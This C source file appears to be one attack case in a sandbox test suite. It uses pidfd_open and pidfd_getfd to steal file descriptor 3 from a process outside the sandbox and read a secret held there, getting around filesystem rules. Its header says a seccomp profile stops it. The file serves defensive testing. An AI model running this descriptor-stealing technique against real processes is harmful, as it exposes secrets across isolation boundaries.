// pidfd_getfd_steal: steal a descriptor from a process outside the sandbox (the runner's `sleep`,
// pid argv[1], holds the secret open on fd 3) with pidfd_open + pidfd_getfd, and read the secret
// through it: no path is ever opened, so no filesystem rule applies.
// Stopped by: seccomp (std.hardening kills @debugging, pidfd_getfd included).
#include <sys/syscall.h>

#include "attack.h"

int main(int argc, char** argv) {
  if (argc != 2) fail_usage(argv[0], "PID");
  pid_t pid = (pid_t)atoi(argv[1]);
  long pidfd = syscall(SYS_pidfd_open, pid, 0);
  if (pidfd < 0) blocked_errno("pidfd_open", errno);
  long fd = syscall(SYS_pidfd_getfd, pidfd, 3, 0);
  if (fd < 0) blocked_errno("pidfd_getfd", errno);
  char buf[64] = {0};
  if (pread((int)fd, buf, sizeof buf - 1, 0) < 0) succeeded("stole fd 3 of pid %d (read: %s)", pid, errname(errno));
  buf[strcspn(buf, "\n")] = 0;
  succeeded("stole fd 3 of pid %d and read \"%s\"", pid, buf);
}
